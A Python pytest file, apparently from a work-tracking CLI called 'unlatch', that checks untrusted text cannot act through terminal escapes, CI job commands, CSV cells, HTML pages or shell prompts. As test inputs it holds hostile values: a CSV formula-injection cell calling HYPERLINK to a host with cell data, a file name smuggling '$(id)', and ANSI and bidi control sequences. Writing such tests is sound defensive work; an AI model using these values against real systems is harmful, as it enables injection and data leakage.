"""Text from outside acts nowhere: not at a terminal, in a log, a summary, CSV, JSON or HTML."""

import ast
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import click
import pytest
import requests
from markdown_it import MarkdownIt
from tests.ci.jobs import AZURE, GITHUB, GITLAB
from tests.ci.test_telling import commands
from tests.cli import scoped
from tests.cli.project import WORKER, Done, Project
from tests.pairs import sampled
from tests.security.acting import (
    BRANCH,
    NAME,
    WORDS,
    TerminalStream,
    acting,
    acting_in_file,
    forged,
)
from tests.security.test_programs import DECLARED, EXAMPLES, lay_files

import unlatch.cli
from unlatch.cli.app import app
from unlatch.cli.terminal import output, prompts
from unlatch.worklog.text import neutral
from unlatch_audit.cli.csv_lines import csv_line

# They show nothing but what they bring along.
OWN_WORDS = {"demo", "sandbox"}
SHOWING = [name for name in DECLARED if name not in OWN_WORDS]
# What the demo of runs shows is written by processes of its own, in a project of its own.
SHOWING_HERE = [name for name in SHOWING if name != "run demo"]
SYSTEMS = {"github": GITHUB, "azure": AZURE, "gitlab": GITLAB}
OURS = re.compile(
    r"::(?:error|warning|notice) [^:]*::|##vso\[task\.(?:logissue|uploadsummary|setvariable)[ \]]"
)


def test_what_is_taken_for_harmless_without_a_search_is_harmless() -> None:
    patterns = [re.compile(one) for one in (neutral._IN_A_LINE, neutral._IN_TEXT)]
    harmless = [sign for sign in map(chr, range(0x110000)) if neutral._is_plain(sign)]

    found = [hex(ord(sign)) for sign in harmless if any(one.search(sign) for one in patterns)]

    assert ([], True) == (found, len(harmless) > 100_000)


def takes_json(name: str) -> bool:
    first, _, second = name.partition(" ")
    found = app.get_command(click.Context(app), first)
    if isinstance(found, click.Group):
        found = found.get_command(click.Context(found), second)
    return found is not None and any(one.name == "as_json" for one in found.params)


@pytest.fixture
def hostile(project: Project) -> Project:
    """Folders, files, titles, labels, comments, accounts, reasons: all of them try to act."""
    links = project.items()
    box = project.box
    box.github.edit("octo/widgets", 4, title=WORDS, labels=[NAME, "completed"], assignees=[NAME])
    box.github.add_comment("octo/widgets", 4, WORDS, user=NAME)
    box.ado.edit(101, title=WORDS, tags=[NAME], assigned_to=NAME, description=WORDS)
    box.ado.add_comment(101, WORDS, user=NAME)
    box.jira.edit("SCRUM-28", summary=WORDS, labels=[NAME], assignee=NAME)
    box.jira.add_comment("SCRUM-28", WORDS, user=NAME)
    _lay(project, f"0007-{NAME}", links=links, reopenHistory=[_reopen()])
    _lay(project, f"0008-{NAME}", status="active")
    _lay(project, f"0009-{NAME}", status="planning")
    (project.increments / f"0010-{NAME}").mkdir()
    (project.increments / f"0010-{NAME}" / "metadata.json").write_text("{")
    (project.increments / "0011-line\nFORGED").mkdir()
    (project.home / ".gitconfig").write_text(f'[user]\n\tname = "{_settable(NAME)}"\n')
    project.commit(WORDS)
    project.git("checkout", "--quiet", "-b", BRANCH)
    (project.folder(f"0007-{NAME}") / "notes.md").write_text("More\n")
    project.extra["UNLATCH_BY"] = NAME
    return project


def _lay(project: Project, name: str, **more: Any) -> None:
    project.increment(name, title=WORDS, type=NAME, **more)
    scoped.write(project, name=name)
    spec = project.folder(name) / "spec.md"
    spec.write_text(spec.read_text().replace("# Smart discipline", f"# {NAME}"))


def _reopen() -> dict[str, Any]:
    return {
        "reopenedAt": "2025-11-01T08:00:00Z",
        "reason": WORDS,
        "previousStatus": "completed",
        "reopenedBy": NAME,
        "syncedTo": {},
    }


def _settable(text: str) -> str:
    return "".join(char for char in text if char >= " " and char != "\x7f")


def typed(project: Project, name: str) -> list[str]:
    """A command as it does its work."""
    event = project.home / "event.json"
    issue = {"html_url": project.urls["github"], "state": "open", "title": WORDS}
    event.write_text(json.dumps({"action": "reopened", "sender": {"login": NAME}, "issue": issue}))
    metadata = project.folder(f"0007-{NAME}") / "metadata.json"
    words = {
        "github": project.urls["github"],
        "event": event,
        "version": metadata,
        "worker": WORKER,
    }
    arguments = EXAMPLES[name].arguments
    return [
        *name.split(),
        *(one.format_map(words) if one[:1] == "{" else one for one in arguments),
    ]


def ran(project: Project, name: str, *options: str, before: tuple[str, ...] = ()) -> Done:
    lay_files(project)
    for arguments in EXAMPLES[name].before:
        project.run(*arguments)
    return project.run(*before, *typed(project, name), *options, stdin=EXAMPLES[name].stdin)


# Every command


# Each way to show words is one module, for all commands.
AT_TERMINAL = sampled(SHOWING_HERE, SHOWING_HERE[::5])
IN_JOBS = sampled(SHOWING_HERE, SHOWING_HERE[2::10])
DOCUMENTS = sampled(filter(takes_json, SHOWING), SHOWING[4::10])


@pytest.mark.parametrize("name", AT_TERMINAL)
def test_nothing_acts_at_a_terminal_or_in_the_log(
    hostile: Project, tmp_path: Path, name: str
) -> None:
    log = tmp_path / "log"
    hostile.stream = TerminalStream

    done = ran(hostile, name, before=("--debug", "--trace-http", str(log)))

    assert done.code in EXAMPLES[name].codes | {1, 3, 5}, done.said
    assert (set(), []) == (acting(done.said), forged(done.said))
    assert set() == acting_in_file(log.read_text() if log.exists() else "")


@pytest.mark.parametrize("name", IN_JOBS)
def test_nothing_acts_in_a_job(hostile: Project, tmp_path: Path, name: str) -> None:
    hostile.extra |= {**GITHUB, **_files(tmp_path)}

    done = ran(hostile, name)

    assert (set(), []) == (acting(done.said), forged(done.said))
    assert [] == [line for line in commands(done.said) if not OURS.match(line)]
    assert_summary_is_words(tmp_path)


@pytest.mark.parametrize("name", DOCUMENTS)
def test_json_holds_every_character_and_none_acts(hostile: Project, name: str) -> None:
    done = ran(hostile, name, "--json")

    assert (set(), []) == (acting(done.said), forged(done.out))
    assert [] == commands(done.out)
    assert isinstance(done.document, dict | list)


@pytest.mark.parametrize("every", [3, pytest.param(1, marks=pytest.mark.sweep)])
@pytest.mark.parametrize("way", ["word", "option", "config"])
def test_no_mistake_acts_when_it_is_repeated(project: Project, way: str, every: int) -> None:
    ways = {"word": WORDS, "option": f"--{WORDS}", "config": "99"}
    argument, first = ways[way], [*ways].index(way)
    if way == "config":
        project.configure_more(tables=f"[{json.dumps(NAME)}]\n{json.dumps(WORDS)} = 1\n")
    for name in SHOWING[first % every :: every]:
        done = project.run(*name.split(), argument)

        assert (name, set(), []) == (name, acting(done.said), forged(done.said))
        acts = [line for line in commands(done.said) if not OURS.match(line)]
        assert (name, []) == (name, acts)


# Jobs


def _files(folder: Path) -> dict[str, str]:
    names = ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "UNLATCH_SUMMARY")
    return {
        **{name: str(folder / name.lower()) for name in names},
        "AGENT_TEMPDIRECTORY": str(folder),
    }


def assert_summary_is_words(folder: Path) -> str:
    """A job's summary; as Markdown it has only words from outside."""
    paths = [folder / "github_step_summary", folder / "unlatch_summary", *folder.glob("*.md")]
    text = "".join(path.read_text("utf-8") for path in paths if path.is_file())
    assert set() == acting_in_file(text)
    page = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(text)
    assert [] == re.findall(r"<(?:script|a|img|code)\b", page)
    assert "@all" not in page.replace("@\u200b", "")
    return text


@pytest.mark.parametrize("options", [("--check",), ("--dry-run",), ("--yes",)])
@pytest.mark.parametrize("system", SYSTEMS)
def test_a_summary_of_a_sync_is_words(
    hostile: Project, tmp_path: Path, system: str, options: tuple[str, ...]
) -> None:
    for arguments in EXAMPLES["sync"].before:
        hostile.run(*arguments)
    hostile.box.jira.edit("SCRUM-28", status="In Progress")
    hostile.extra |= {**SYSTEMS[system], **_files(tmp_path)}

    done = hostile.run("sync", *options)

    assert "### " in assert_summary_is_words(tmp_path)
    assert [] == [line for line in commands(done.said) if not OURS.match(line)]
    outputs = tmp_path / "github_output"
    lines = outputs.read_text().splitlines() if outputs.exists() else []
    assert all(re.match(r"[a-z-]+=", line) for line in lines)


def test_a_branch_is_named_and_does_nothing(hostile: Project) -> None:
    hostile.configure_more(tables='[sync]\nbranch = "main"\n')

    done = hostile.run("sync", "--yes")

    assert "On branch side-" in done.err
    assert set() == acting(done.said)


# CSV


@pytest.mark.parametrize(
    "sign",
    [
        *("=", "+", "-", "@", "\t", "\r", "\n", "'="),
        *("\r=", "\n=", " =", "\u3000+", "' =", "'\n="),
        *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"),
    ],
)
def test_no_cell_is_a_formula(sign: str) -> None:
    cell = f'{sign}HYPERLINK("http://x/?"&A1)'

    line = csv_line((cell, "https://example.com/1"))

    assert "'" == line.lstrip('"')[0]


def test_proposals_are_lines_of_text(hostile: Project) -> None:
    hostile.box.github.add_issue(number=5, title=WORDS)

    done = hostile.run("link", "--suggest")

    assert (set(), []) == (acting(done.said), forged(done.said))


# HTML


def test_pages_of_the_sandbox_hold_words(hostile: Project) -> None:
    box = hostile.box
    items = [*box.github.items(), *box.ado.items(), *box.jira.items()]

    pages = [requests.get(url, timeout=10) for url in (box.console_url, *(i.url for i in items))]

    for page in pages:
        assert 200 == page.status_code
        assert set() == acting_in_file(page.text)
        assert "<script" not in page.text
        assert '"onload' not in page.text
        assert "alert(1)" in page.text


# The one place


# All three escape what they write.
_WRITERS = {"output.py", "prompts.py", "progress.py"}


def test_only_one_module_writes_to_the_terminal() -> None:
    folder = Path(unlatch.cli.__file__).parent
    paths = [path for path in folder.rglob("*.py") if path.name not in _WRITERS]

    writing = {path.name: found for path in paths if (found := list(_writing(path)))}

    assert {} == writing


def _writing(path: Path) -> list[str]:
    calls = (
        node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)
    )
    names = ("echo", "secho", "prompt", "confirm", "style", "print_exception", "print_exc", "write")
    written = [ast.unparse(call) for call in calls]
    wrong = {f"click.{name}" for name in names} | {"print", "print_exception", "sys.stdout.write"}
    return [call for call in written if call in wrong | {"sys.stderr.write"}]


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("\x1b[31mred", r"\x1b[31mred"),
        ("\x1b[31;1mred", r"\x1b[31;1mred"),
        ("\x9b31m", r"\x9b31m"),
        ("a\nb\rc", r"a\nb\rc"),
        ("a\u202eb\u200f", r"a\u202eb\u200f"),
        ("pay\u200dpal", r"pay\u200dpal"),
        ("a\ufe0fb\u3164c\u034f", r"a\ufe0fb\u3164c\u034f"),
        ("\udcff", r"\udcff"),
        ("\U000e0041", r"\U000e0041"),
        ("क्\u200dष 👩\u200d💻 ❤\ufe0f\t漢", "क्\u200dष 👩\u200d💻 ❤\ufe0f\t漢"),
    ],
)
def test_what_would_act_is_shown(
    hostile: str, expected: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    stream = TerminalStream(io.BytesIO(), encoding="utf-8", errors="replace")
    monkeypatch.setattr("sys.stdout", stream)

    output.data(f"{output.good('ok')} {hostile}")

    stream.seek(0)
    assert f"\x1b[32mok\x1b[0m {expected}\n" == stream.read()


def test_a_question_is_asked_in_words(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("y\nwhy\n"))

    answers = prompts.confirm(WORDS), prompts.prompt(WORDS)

    assert (True, "why") == answers
    said = "".join(capsys.readouterr())
    assert (set(), []) == (acting(said), forged(said))


def test_bytes_of_a_name_that_are_not_text_are_shown(project: Project) -> None:
    name = "0007-\udcff"
    folder = project.folder(project.increment("0007-name", title="Name"))
    try:
        folder.rename(project.folder(name))
    except OSError:
        pytest.skip("this file system takes text only")

    shown, document = project.run("show", "7"), project.run("show", "7", "--json")

    assert r"0007-\udcff" in shown.out
    assert name == document.document["increment"]["id"]


@pytest.mark.parametrize("shell", ["bash", "zsh"])
@pytest.mark.parametrize(
    "name", ["0007-\udcff", "0007-it's \udcff7 \\ $(id)", "0007-\x1b7\u202e x"]
)
def test_the_next_command_works_for_such_a_name(project: Project, shell: str, name: str) -> None:
    folder = project.folder(project.increment("0007-name"))
    try:
        folder.rename(project.folder(name))
    except OSError:
        pytest.skip("this file system takes text only")
    if (program := shutil.which(shell)) is None:
        pytest.skip(f"needs {shell}")

    refused = project.run("pause", "7")

    word = refused.err.partition("next: unlatch resume ")[2].removesuffix("\n")
    assert acting(refused.err) == set()
    command = [program, "-c", f"printf %s {word}"]
    utf_8 = {**os.environ, "LC_ALL": "C.UTF-8"}
    typed = subprocess.run(command, env=utf_8, capture_output=True, check=True)
    assert os.fsencode(name) == typed.stdout
